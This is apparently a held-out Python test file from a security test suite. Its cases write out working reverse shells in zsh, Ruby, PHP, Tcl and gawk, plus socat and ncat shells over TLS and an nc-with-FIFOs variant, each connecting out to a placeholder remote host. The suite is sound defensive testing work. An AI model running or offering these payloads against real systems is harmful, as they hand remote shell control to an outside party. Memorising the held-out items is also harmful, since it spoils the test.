# SPDX-License-Identifier: Apache-2.0
"""Held out: reverse shells in other languages, on other terminals, inside of other things."""

import lib_held as held
import lib_net as net
from attack_shell import script, shell
from lib_case import case


@case("reverse_shell", seconds=5)
def shell_zsh(c):
    """zsh: its own module for TCP"""
    held.need("zsh")
    script(c, "setup.zsh", "zmodload zsh/net/tcp\nztcp %(far)s %(port)d\nexec zsh -f -s <&$REPLY >&$REPLY 2>&$REPLY\n", port=9001)
    shell(c, "zsh -f setup.zsh", port=9001)


@case("reverse_shell", seconds=6)
def shell_ruby(c):
    """ruby: a terminal, and two threads between it and a socket; typed key by key"""
    held.need("ruby")
    script(c, "setup.rb", """\
require "socket"
require "pty"
s = TCPSocket.new("%(far)s", %(port)d)
PTY.spawn("/bin/bash", "--norc") do |r, w, pid|
  Thread.new { loop { w.write(s.readpartial(4096)) } }
  loop { s.write(r.readpartial(4096)) }
end
""", port=8000)
    shell(c, "ruby setup.rb", port=8000, slow=True, commands=("pwd", "cat notes.txt"))


@case("reverse_shell", seconds=5)
def shell_php(c):
    """php: proc_open with a socket as all three streams; php stays beside it"""
    held.need("php")
    script(c, "setup.php", """\
<?php
$s = stream_socket_client("tcp://%(far)s:%(port)d");
$p = proc_open("/bin/sh -i", [0 => $s, 1 => $s, 2 => $s], $pipes);
proc_close($p);
""", port=8080)
    shell(c, "php setup.php", port=8080)


@case("reverse_shell", seconds=5)
def shell_tcl(c):
    """tclsh: a shell's pipes joined to a socket by file events"""
    held.need("tclsh")
    script(c, "setup.tcl", """\
set s [socket %(far)s %(port)d]
set p [open "|/bin/sh -i 2>@1" r+]
foreach f [list $s $p] { fconfigure $f -translation binary -buffering none -blocking 0 }
proc carry {a b} { set data [read $a]; if {[eof $a]} exit; puts -nonewline $b $data }
fileevent $s readable [list carry $s $p]
fileevent $p readable [list carry $p $s]
vwait forever
""", port=5060)
    shell(c, "tclsh setup.tcl", port=5060)


@case("reverse_shell", seconds=5)
def shell_gawk(c):
    """gawk: a shell a line, whose output is read and sent on"""
    held.need("gawk")
    script(c, "setup.awk", """\
BEGIN {
	s = "/inet/tcp/0/%(far)s/%(port)d"
	while ((s |& getline command) > 0) {
		command = command " 2>&1"
		while ((command | getline line) > 0)
			print line |& s
		close(command)
		fflush(s)
	}
}
""")
    shell(c, "gawk -f setup.awk")


@case("reverse_shell", seconds=7)
def shell_socat_tls(c):
    """socat: a terminal inside of TLS; typed key by key"""
    c.tool("socat")
    shell(c, "./worker OPENSSL:%(far)s:%(port)d,verify=0 EXEC:'bash --norc -i',pty,setsid,ctty,stderr", port=443, tls=net.tls(),
          slow=True, commands=("pwd", "cat notes.txt"))


@case("reverse_shell", seconds=5)
def shell_two_fifos(c):
    """nc and a shell with a FIFO each way"""
    c.tool("nc")
    shell(c, "mkfifo in out; ./worker %(far)s %(port)d <out >in & sh -i >out 2>&1 <in", port=8443)


@case("reverse_shell", seconds=5)
def shell_ncat_tls(c):
    """ncat: -e inside of TLS"""
    c.tool("ncat")
    c.tool("bash", "build")
    shell(c, "./worker --ssl %(far)s %(port)d -e ./build", port=443, tls=net.tls())
